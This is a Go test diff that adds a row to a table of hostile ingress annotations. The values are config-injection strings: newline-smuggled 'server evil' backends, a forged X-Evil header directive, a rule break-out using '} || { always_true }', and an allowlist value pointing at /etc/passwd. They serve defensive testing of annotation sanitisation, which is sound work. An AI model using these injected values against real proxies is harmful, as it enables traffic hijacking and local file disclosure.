@@ -257,6 +257,7 @@ func hostileRows() []row {
 		annotationRow("annotation-rewrite-sample", names.RewriteTargetAnnotation, "/%[env(HOME)]\\1\n  server evil "+evil+":80", 200),
 		annotationsRow("annotation-rate-limit-condition", names.RateLimitRateHTTPAnnotation, 200, map[string]string{
 			names.RateLimitAnnotation: "true", names.RateLimitRateHTTPAnnotation: "1000 } || { always_true }\n  server evil " + evil + ":80"}),
+		annotationRow("annotation-forwarded-policy-directive", names.SetForwardedHeadersAnnotation, "never\n  http-request set-header X-Evil "+evil, 200),
 		annotationRow("annotation-allowlist-file", names.IPAllowlistAnnotation, "-f /etc/passwd "+evil, 403),
 		annotationRow("annotation-allowlist-directive", names.IPWhitelistAnnotation, "127.0.0.1\n  server evil "+evil+":80", 403),
 
